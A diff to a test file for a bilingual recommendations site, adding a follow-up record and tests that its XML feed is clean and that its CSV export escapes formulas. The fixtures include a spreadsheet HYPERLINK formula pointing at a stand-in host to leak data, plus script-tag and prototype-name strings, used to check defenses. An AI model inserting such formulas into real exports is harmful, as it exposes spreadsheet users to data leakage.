@@ -28,6 +28,7 @@ import {
   audience,
   campaignEdition,
   createBilingual,
+  rowIds,
   finding,
   lexicalParagraphs,
   practice,
@@ -46,6 +47,9 @@ const longSlug = 's'.repeat(identifierMaxLength)
 const longCode = `X-${'C'.repeat(identifierMaxLength - 2)}`
 const prototypeWords = 'constructor toString valueOf __proto__ hasOwnProperty'
 const hostileThemeName = '</script x'
+/** Row ids of the hostile recommendation's follow-up, shared by its two languages. */
+const followUpRow = rowIds()
+
 const formula = '=HYPERLINK("https://other.host/?leak","x")'
 const controlCharacters = '\u0001\u0008\u001F'
 
@@ -239,12 +243,35 @@ beforeAll(async () => {
   await createBilingual(
     payload,
     'recommendations',
-    recommendation('AIE-A77', {
-      report: reportId,
-      audience: audienceId,
-      theme: themeId,
-      evidence: [findingId],
-    }),
+    over(
+      recommendation('AIE-A77', {
+        report: reportId,
+        audience: audienceId,
+        theme: themeId,
+        evidence: [findingId],
+      }),
+      (lang) => ({
+        // Its follow-up too: statement, named body and source label get payloads below.
+        followUp: [
+          {
+            id: followUpRow(1),
+            date: '2026-03-02',
+            audience: audienceId,
+            kind: 'response',
+            status: 'supported',
+            body: lang === 'ar' ? 'وزارة' : 'A ministry',
+            statement: lang === 'ar' ? `${formula} عربي` : formula,
+            sources: [
+              {
+                id: followUpRow(2),
+                label: lang === 'ar' ? 'مصدر' : 'Source',
+                url: 'https://example.org/source',
+              },
+            ],
+          },
+        ],
+      }),
+    ),
   )
   await createBilingual(
     payload,
@@ -491,6 +518,25 @@ describe('feeds and open data', () => {
       expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/)
     },
   )
+
+  it.each(localeCodes.map((lang) => [lang]))(
+    'serves the %s follow-up feed as valid XML without control characters',
+    async (lang) => {
+      const xml = await (await fetch(`${server?.origin ?? ''}${urls.followUpFeed(lang)}`)).text()
+      expect(xml).toContain('AIE-A77')
+      expect(SyntaxValidator.validate(xml)).toBe(true)
+      // eslint-disable-next-line no-control-regex -- the feed must hold none of the characters XML forbids
+      expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/)
+    },
+  )
+
+  it('writes a formula typed into a follow-up statement as inert text in the CSV', async () => {
+    const csv = await (await fetch(`${server?.origin ?? ''}${urls.followUpData('csv')}`)).text()
+    const rows = parseCsv<Record<string, string>>(csv, { bom: true, columns: true })
+    const row = rows.find((r) => r.recommendation === 'AIE-A77')
+    expect(row?.['statement.en']?.startsWith(`'${formula}`)).toBe(true)
+    expect(row?.['statement.ar']?.startsWith(`'${formula}`)).toBe(true)
+  })
 
   it('writes a formula typed into a statement as inert text in the CSV, in both languages', async () => {
     const csv = await (await fetch(`${server?.origin ?? ''}/data/findings.csv`)).text()
